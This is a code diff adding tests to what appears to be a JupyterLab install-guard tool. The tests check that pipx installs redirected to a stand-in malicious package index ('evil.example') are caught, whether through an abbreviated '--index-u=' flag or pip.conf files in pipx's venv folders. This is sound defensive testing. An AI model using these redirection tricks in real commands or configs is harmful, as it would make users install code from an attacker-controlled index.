@@ -262,3 +262,47 @@ def test_truncated_lines_never_raise(text, tmp_path):
             assert isinstance(line, (str, pipx_cli.PipxLine))
             request = frontends.request("pipx", cut, str(tmp_path), {"HOME": str(tmp_path)})
             assert request is None or isinstance(request.problems, list)
+
+
+def test_a_prefixed_index_stops_a_real_pipx_process(guarded, tmp_path):
+    """Real processes: a stand-in `pipx` whose payload writes a marker. Without Warden the
+    prefixed redirect runs it; with Warden it is refused before it starts."""
+    from test_install_gate import POLICY
+
+    marker = tmp_path / "ran.txt"
+    pipx = tmp_path / "bin" / "pipx"
+    pipx.parent.mkdir()
+    pipx.write_text(f'#!/bin/sh\necho "$@" >> {marker}\n')
+    pipx.chmod(0o755)
+    argv = [str(pipx), "install", f"--index-u={EVIL}", "black"]
+    assert guarded(POLICY, argv, guarded=False)["exit"] == 0 and marker.exists()
+    marker.unlink()
+    refused = guarded(POLICY, argv)
+    assert refused["type"] == "WardenBlockedInstall", refused
+    assert "evil.example" in refused["refused"] and not marker.exists()
+
+
+def test_pip_conf_of_pipx_venvs_is_read(tmp_path):
+    """pip reads the pip.conf of the venv it runs in: pipx's shared libraries and the venv of
+    inject/upgrade/runpip (kernel side); pip's [install] section applies to every pipx install."""
+    home = tmp_path / "home"
+    pipx_home = home / ".local" / "share" / "pipx"
+    (pipx_home / "venvs" / "black").mkdir(parents=True)
+    (pipx_home / "shared").mkdir()
+    (pipx_home / "venvs" / "black" / "pip.conf").write_text(f"[install]\nindex-url = {EVIL}\n")
+    (pipx_home / "shared" / "pip.conf").write_text("[install]\nextra-index-url = https://e2.x\n")
+    env = {"HOME": str(home), "XDG_CONFIG_DIRS": str(home)}
+
+    def urls(command, **more):
+        found = pipx_request.request(shlex.split(command), str(tmp_path), dict(env, **more))
+        from jupyterlab_warden.kernel.guard.installs import sources
+
+        sources.add_implicit_sources(found, dict(env, **more), "pipx", str(tmp_path))
+        return {s.url for s in found.sources}
+
+    assert {EVIL, "https://e2.x"} <= urls("inject black isort")
+    assert {EVIL, "https://e2.x"} <= urls("runpip black install isort")
+    assert EVIL not in urls("install isort") and "https://e2.x" in urls("install isort")
+    import os
+
+    assert "https://e2.x" not in urls("install isort", PIP_CONFIG_FILE=os.devnull)
